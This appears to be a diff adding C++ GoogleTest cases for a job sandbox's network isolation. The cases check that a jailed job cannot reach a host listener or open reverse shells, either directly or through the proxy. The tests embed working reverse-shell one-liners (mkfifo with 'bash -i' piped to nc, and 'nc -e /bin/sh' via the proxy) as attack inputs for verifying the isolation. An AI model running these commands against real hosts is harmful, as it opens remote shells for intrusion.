@@ -1,0 +1,159 @@
+// Attacks on the job's network as the runner builds it (runner/network/JobNetwork): the jail joins
+// the job's namespace, where only the job's proxy listens. A host listener stays unreachable by
+// every address, directly and through the proxy, and reverse shells with nc fail.
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <ifaddrs.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <random>
+
+#include "executor/namespace/namespace_executor.h"
+#include "executor/namespace/test_root.h"
+#include "runner/base/temp_dir.h"
+#include "runner/base/unique_fd.h"
+#include "runner/network/job_network.h"
+
+namespace nixjail::executor {
+namespace {
+
+namespace fs = std::filesystem;
+
+std::vector<std::string> ipv4Addresses() {
+    std::vector<std::string> out;
+    ifaddrs* list = nullptr;
+    if (::getifaddrs(&list) != 0) return out;
+    for (auto* i = list; i; i = i->ifa_next) {
+        if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET) continue;
+        char buf[INET_ADDRSTRLEN];
+        ::inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, buf,
+                    sizeof buf);
+        out.push_back(buf);
+    }
+    ::freeifaddrs(list);
+    return out;
+}
+
+// A host service on 0.0.0.0 (a metrics port, a database) that must never see the job.
+class AnyAddressListener {
+  public:
+    AnyAddressListener() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
+        sockaddr_in addr{};
+        addr.sin_family = AF_INET;
+        socklen_t len = sizeof addr;
+        if (::bind(fd_.get(), reinterpret_cast<sockaddr*>(&addr), len) != 0 ||
+            ::listen(fd_.get(), 16) != 0 ||
+            ::getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
+            throw std::runtime_error("cannot listen on 0.0.0.0");
+        }
+        port_ = ntohs(addr.sin_port);
+    }
+    std::string port() const { return std::to_string(port_); }
+    bool acceptedAnything() const {
+        int c = ::accept4(fd_.get(), nullptr, nullptr, SOCK_CLOEXEC);
+        if (c >= 0) ::close(c);
+        return c >= 0;
+    }
+
+  private:
+    base::UniqueFd fd_;
+    int port_ = 0;
+};
+
+class JobNetworkAttack : public ::testing::Test {
+  protected:
+    void SetUp() override {
+        NIXJAIL_REQUIRE_JAIL();
+        if (::access("/usr/bin/nc.openbsd", X_OK) != 0) {
+            const char* strict = std::getenv("NIXJAIL_TESTS_STRICT");
+            if (strict && std::string(strict) == "1")
+                FAIL() << "needs nc (apt-get install netcat-openbsd)";
+            GTEST_SKIP() << "needs nc (apt-get install netcat-openbsd)";
+        }
+        root_ = std::make_unique<testing::TestRoot>(executor_);
+        network_ = std::make_unique<runner::network::JobNetwork>(
+            runner::network::NetworkSettings{},
+            runner::network::JobNetworkSpec{.job_id = "attack",
+                                            .forge_hosts = {},
+                                            .ca_dir_host = dir_.path() / "network",
+                                            .ca_dir_jail = "/runner/network"});
+        auto spec = root_->spec("security-net-" + std::to_string(::getpid()) + "-" +
+                                std::to_string(std::random_device{}()));
+        spec.netns_fd = network_->netnsFd();
+        jail_ = executor_.prepare(spec);
+    }
+
+    // Runs a shell command in the job's jail; returns its merged output.
+    std::string sh(const std::string& command) {
+        StepInvocation step;
+        step.argv = {"bash", "-c", command};
+        step.env = {"PATH=/usr/bin:/bin", "HOME=/workspace"};
+        for (const auto& [k, v] : network_->environment()) step.env.push_back(k + "=" + v);
+        step.cwd = "/workspace";
+        step.timeout = std::chrono::seconds(30);
+        std::string out;
+        step.on_output = [&out](std::string_view s) { out.append(s); };
+        auto r = jail_->run(step);
+        EXPECT_EQ(r.setup_error, "");
+        return out;
+    }
+
+    std::string proxy() const { return "127.0.0.1:" + std::to_string(network_->proxyPort()); }
+
+    base::TempDir dir_{"nixjail-security-net-"};
+    NamespaceExecutor executor_;
+    std::unique_ptr<testing::TestRoot> root_;
+    std::unique_ptr<runner::network::JobNetwork> network_;
+    std::unique_ptr<Jail> jail_;
+};
+
+TEST_F(JobNetworkAttack, HostListenerIsUnreachableByIpDirectlyAndThroughTheProxy) {
+    AnyAddressListener listener;
+    for (const auto& ip : ipv4Addresses()) {
+        const std::string target = ip + ":" + listener.port();
+        auto direct = sh("nc.openbsd -z -w 3 " + ip + " " + listener.port() +
+                         " && echo reached || echo refused");
+        EXPECT_NE(direct.find("refused"), std::string::npos) << target << ": " << direct;
+        EXPECT_EQ(direct.find("reached"), std::string::npos) << target << ": " << direct;
+        // Asking the proxy for it: a CONNECT tunnel and a plain http request, both denied.
+        auto tunnel = sh("printf 'CONNECT " + target + " HTTP/1.1\\r\\nHost: " + target +
+                         "\\r\\n\\r\\n' | nc.openbsd -N -w 3 127.0.0.1 " +
+                         std::to_string(network_->proxyPort()));
+        EXPECT_NE(tunnel.find("HTTP/1.1 403"), std::string::npos) << target << ": " << tunnel;
+        auto plain = sh("printf 'GET http://" + target + "/ HTTP/1.1\\r\\nHost: " + target +
+                        "\\r\\nConnection: close\\r\\n\\r\\n' | nc.openbsd -N -w 3 127.0.0.1 " +
+                        std::to_string(network_->proxyPort()));
+        EXPECT_NE(plain.find("HTTP/1.1 403"), std::string::npos) << target << ": " << plain;
+    }
+    EXPECT_FALSE(listener.acceptedAnything());
+    network_->stop();
+    auto records = network_->takeAuditRecords();
+    EXPECT_EQ(records.size(), 2 * ipv4Addresses().size());
+    for (const auto& r : records) EXPECT_EQ(r.decision, proxy::PolicyDecision::kDeny) << r.host;
+}
+
+TEST_F(JobNetworkAttack, ReverseShellWithNcFailsDirectlyAndThroughTheProxy) {
+    AnyAddressListener listener;
+    for (const auto& ip : ipv4Addresses()) {
+        auto direct =
+            sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | nc.openbsd -v -w 3 " + ip +
+               " " + listener.port() + " > /tmp/f; echo nc-exit=${PIPESTATUS[2]}");
+        EXPECT_NE(direct.find("nc-exit=1"), std::string::npos) << ip << ": " << direct;
+        EXPECT_TRUE(direct.find("Connection refused") != std::string::npos ||
+                    direct.find("Network is unreachable") != std::string::npos)
+            << ip << ": " << direct;
+        auto viaProxy =
+            sh("nc.openbsd -X connect -x " + proxy() + " -w 3 " + ip + " " + listener.port() +
+               " -e /bin/sh 2>&1 < /dev/null; nc.openbsd -X connect -x " + proxy() + " -w 3 " + ip +
+               " " + listener.port() + " < /dev/null; echo nc-exit=$?");
+        EXPECT_NE(viaProxy.find("nc-exit=1"), std::string::npos) << ip << ": " << viaProxy;
+        EXPECT_NE(viaProxy.find("403"), std::string::npos) << ip << ": " << viaProxy;
+    }
+    EXPECT_FALSE(listener.acceptedAnything());
+}
+
+}  // namespace
+}  // namespace nixjail::executor
